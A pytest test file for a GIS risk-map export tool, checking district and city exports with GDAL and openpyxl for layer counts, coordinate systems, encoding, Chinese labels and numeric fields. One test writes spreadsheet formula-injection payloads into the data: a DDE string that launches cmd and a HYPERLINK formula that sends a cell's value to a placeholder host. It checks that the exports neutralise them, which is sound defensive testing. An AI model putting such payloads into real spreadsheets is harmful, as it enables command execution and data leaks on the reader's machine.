"""District export packs and city outputs from the demo database, read back with GDAL."""

from __future__ import annotations

import re
import subprocess
import zipfile

import openpyxl
import pyogrio
import pytest
from click.testing import CliRunner
from sqlalchemy import text

from geo import store
from geo.layer_specs import LAYERS
from layers.demo_load import load_demo
from layers.pack import export_city, export_district
from layers.palette import RiskLevel, level_label
from layers.planning import STATUS_LABELS, VERDICT_LABELS, status_label, verdict_label
from layers.sources import SOURCE_TYPES

pytestmark = pytest.mark.postgis
DISTRICTS = ["530102", "530103", "530111", "530112", "530113", "530114", "530115", "530124", "530125",
             "530126", "530127", "530128", "530129", "530181"]


def ogr_counts(path) -> tuple[dict[str, int], str]:
    out = subprocess.run(["ogrinfo", "-ro", "-so", "-al", str(path)], capture_output=True, text=True, check=True).stdout
    counts = {m.group(1): int(m.group(2))
              for m in re.finditer(r"Layer name: (.+)\n(?:.*\n)*?Feature Count: (\d+)", out)}
    return counts, out


@pytest.mark.parametrize("adcode", DISTRICTS)
def test_every_district_pack_opens_with_gdal(demo_db, tmp_path, adcode) -> None:
    engine = store.make_engine(demo_db)
    written = export_district(engine, adcode, tmp_path, formats=("gpkg",), actor="test")
    counts, info = ogr_counts(written["gpkg"][0])
    n_points = len(store.read_layer(engine, "risk_points", adcode))
    assert n_points >= 2
    for title in ("基础清单", "防控清单", "责任清单", "应急清单"):
        assert counts[title] == n_points
    assert counts["区县边界"] == 1
    found = store.read_findings(engine, adcode=adcode)
    open_found = found[found["status"].isin(["open", "in_remediation"])]
    # findings and sources mix points and lines: one layer per geometry type (检查发现_点, 检查发现_线 …)
    assert sum(n for name, n in counts.items() if re.fullmatch(r"检查发现(_[点线面])?", name)) == len(open_found)
    assert "Unknown (any)" not in info and "Geometry Collection" not in info
    assert len(re.findall(r"^Geometry: ", info, re.M)) == len(counts)
    assert 'ID["EPSG",4490]' in info or "CGCS2000" in info


def test_full_pack_formats(demo_db, tmp_path) -> None:
    engine = store.make_engine(demo_db)
    written = export_district(engine, "530181", tmp_path, formats=("gpkg", "shp", "xlsx", "pdf", "geojson"),
                              shp_encoding="GBK", crs="gk", actor="test")
    _, info = ogr_counts(written["gpkg"][0])
    assert 'ID["EPSG",4543]' in info  # CGCS2000 3-degree GK CM 102°E
    wb = openpyxl.load_workbook(written["xlsx"][0])
    assert {"基础清单", "防控清单", "责任清单", "应急清单"} <= set(wb.sheetnames)
    headers = [c.value for c in wb["基础清单"][1]]
    assert "风险点编号" in " ".join(map(str, headers)) or "编号" in " ".join(map(str, headers))
    assert wb["基础清单"].freeze_panes == "A2"
    with zipfile.ZipFile(written["shp"][0]) as zf:
        cpgs = [n for n in zf.namelist() if n.endswith(".cpg")]
        assert cpgs and all(zf.read(n).decode().strip() == "GBK" for n in cpgs)
        zf.extractall(tmp_path / "shp")
    shp = next((tmp_path / "shp").rglob("basic_list*.shp"))
    back = pyogrio.read_dataframe(shp, encoding="GBK")
    names = set(store.read_layer(engine, "risk_points", "530181")["name"])
    assert names & set(back.astype(str).stack())  # Chinese values survive the GBK round trip
    assert written["pdf"][0].stat().st_size > 10_000
    with engine.connect() as conn:
        audits = conn.execute(text("SELECT count(*) FROM audit_log WHERE action = 'export' AND adcode = '530181'"))
        assert audits.scalar_one() >= 1


def test_unknown_district_is_a_clear_error(demo_db, tmp_path) -> None:
    with pytest.raises(ValueError, match="unknown district"):
        export_district(store.make_engine(demo_db), "530199", tmp_path, formats=("gpkg",))


def test_city_outputs_and_cli(demo_db, tmp_path, monkeypatch) -> None:
    from riskmap.cli import main

    written = export_city(store.make_engine(demo_db), tmp_path, formats=("gpkg", "xlsx", "png"), actor="test")
    counts, _ = ogr_counts(written["gpkg"][0])
    assert counts["五色评级"] == 14
    wb = openpyxl.load_workbook(written["xlsx"][0])
    assert "五色评级" in wb.sheetnames
    monkeypatch.setenv("RISKMAP_DATABASE_URL", demo_db)
    result = CliRunner().invoke(main, ["export", "--district", "530113", "--formats", "gpkg,xlsx",
                                       "--out", str(tmp_path / "cli")])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "cli" / "riskmap_530113.gpkg").exists()
    bad = CliRunner().invoke(main, ["export", "--out", str(tmp_path / "x")])
    assert bad.exit_code != 0 and "--district" in bad.output


# --- exports that cannot attack their reader, and read well ---------------------------------------

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"点击")'
DDE = "=cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\n")  # a stored CR reads back from XML as LF
CODES = (set(VERDICT_LABELS) | set(STATUS_LABELS) | set(LAYERS) | set(SOURCE_TYPES)
         | {lv.value for lv in RiskLevel})


def _gis_layers(paths) -> dict[str, str]:
    """``{layer: geometry}`` of every layer of every GIS file, as GDAL reads them."""
    out: dict[str, str] = {}
    for path in paths:
        info = subprocess.run(["ogrinfo", "-ro", "-so", "-al", str(path)], capture_output=True, text=True,
                              check=True).stdout
        for block in re.split(r"^Layer name: ", info, flags=re.M)[1:]:
            geometry = re.search(r"^Geometry: (.+)$", block, re.M)
            out[f"{path.name}:{block.splitlines()[0].strip()}"] = geometry.group(1) if geometry else "none"
    return out


def _sheet(ws) -> dict[str, list]:
    headers = [c.value for c in ws[1]]
    return {h: [ws.cell(row=r, column=i).value for r in range(2, ws.max_row + 1)] for i, h in enumerate(headers, 1)}


def test_exports_cannot_attack_their_reader_and_read_well(engine, tmp_path) -> None:
    for _ in load_demo(engine):
        pass
    with engine.begin() as conn:
        # Imports refuse such names (geo/validate.py); here they are built in the store directly, as data
        # written before that check or by another tool would be.
        keys = conn.execute(text("SELECT DISTINCT subject_key FROM check_findings WHERE subject_type = 'enterprises' "
                                 "AND adcode = '530181' AND status = 'open' ORDER BY 1")).scalars().all()
        assert len(keys) >= 2
        for key, name in zip(keys, (HYPERLINK, DDE), strict=False):
            conn.execute(text("UPDATE enterprises SET name = :n WHERE key = :k"), {"n": name, "k": key})
            conn.execute(text("UPDATE check_findings SET subject_name = :n WHERE subject_key = :k"),
                         {"n": name, "k": key})
        conn.execute(text("UPDATE risk_points SET name = :n, address = :a, principal_phone = :p WHERE code = "
                          "(SELECT min(code) FROM risk_points WHERE adcode = '530181')"),
                     {"n": DDE, "a": "@SUM(1+1)", "p": "-1+2"})
    district = export_district(engine, "530181", tmp_path / "d", formats=("gpkg", "shp", "geojson", "xlsx"),
                               actor="test")
    city = export_city(engine, tmp_path / "c", formats=("gpkg", "shp", "geojson", "xlsx"), actor="test")

    # XLSX: no formula cell anywhere; formula-like text is a quote-prefixed text cell; the text is unchanged
    texts: set[str] = set()
    for path in (district["xlsx"][0], city["xlsx"][0]):
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        texts.add(cell.value)
                        if cell.value.startswith(FORMULA_START):
                            assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
    assert {HYPERLINK, DDE, "@SUM(1+1)", "-1+2"} <= texts

    wb = openpyxl.load_workbook(district["xlsx"][0])
    found, sources, basic = _sheet(wb["检查发现"]), _sheet(wb["四色风险源"]), _sheet(wb["基础清单"])
    assert HYPERLINK in found["主体"] and DDE in found["主体"]
    # Chinese labels, the code in a column of its own
    assert found["结论"] == [verdict_label(c) for c in found["结论代码"]] and "违规" in found["结论"]
    assert found["整改状态"] == [status_label(c) for c in found["整改状态代码"]]
    assert set(found["整改状态代码"]) <= {"open", "in_remediation"}
    assert found["主体类型"] == [LAYERS[c].zh for c in found["主体类型代码"]] and "企业" in found["主体类型"]
    assert found["对象类型"] == [LAYERS[c].zh for c in found["对象类型代码"]]
    assert "ESD_DECLARED" in found["规则代码"] and not set(found["规则"]) & set(found["规则代码"])
    assert sources["类型"] == [SOURCE_TYPES[c] for c in sources["类型代码"]]
    assert sources["风险等级"] == [level_label(c) for c in sources["风险等级代码"]]
    for ws in [*wb.worksheets[1:], *openpyxl.load_workbook(city["xlsx"][0]).worksheets[1:]]:
        for header, values in _sheet(ws).items():
            if not str(header).endswith("代码"):
                assert not CODES & set(values), (ws.title, header, CODES & set(values))
    # numbers are numeric cells
    for values in (found["实测距离(m)"], found["要求距离(m)"], basic["重大危险源R值"], basic["外部安全防护距离(m)"]):
        numbers = [v for v in values if v is not None]
        assert numbers and all(isinstance(v, int | float) for v in numbers)
    rating = _sheet(openpyxl.load_workbook(city["xlsx"][0])["五色评级"])
    assert all(isinstance(v, int | float) for v in rating["得分"] + rating["排名"] + rating["重大"])

    # GIS: numbers are numeric fields; every layer has exactly one geometry type
    _, info = ogr_counts(district["gpkg"][0])
    for field in ("重大危险源R值", "外部安全防护距离(m)", "实测距离(m)", "要求距离(m)"):
        assert re.search(rf"^{re.escape(field)}: Real", info, re.M), field
    assert re.search(r"^得分: Real", ogr_counts(city["gpkg"][0])[1], re.M)
    for written in (district, city):
        with zipfile.ZipFile(written["shp"][0]) as zf:
            zf.extractall(tmp_path / "shp")
    gis = [district["gpkg"][0], city["gpkg"][0], *(tmp_path / "shp").glob("*.shp"), *district["geojson"],
           *city["geojson"]]
    layers = _gis_layers(gis)
    for part in ("检查发现_线", "检查发现_点", "四色风险源_线", "四色风险源_点", "findings_ln.shp", "risk_sources_pt"):
        assert any(part in name for name in layers), (part, sorted(layers))
    bad = {name: geom for name, geom in layers.items() if geom in ("Unknown (any)", "none", "Geometry Collection")}
    assert not bad
